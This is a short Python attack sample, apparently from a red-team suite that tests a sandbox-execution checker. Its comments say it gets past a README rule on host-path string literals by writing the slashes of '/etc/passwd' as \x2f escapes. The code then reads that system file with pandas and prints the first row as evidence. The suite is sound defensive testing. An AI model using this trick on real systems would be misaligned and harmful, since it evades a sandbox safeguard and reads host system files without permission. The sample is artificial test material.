# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 7 path literal decoded and joined
# source: own; README host-path rule on string literals
# family: host-path literal escapes - path literal whose slashes are \x2f escapes
# goal: read /etc/passwd
import json
import pandas as pd
df = pd.read_csv("\x2fetc\x2fpasswd", sep=":", header=None)
print(json.dumps({"evidence": str(df.iloc[0].tolist())}))
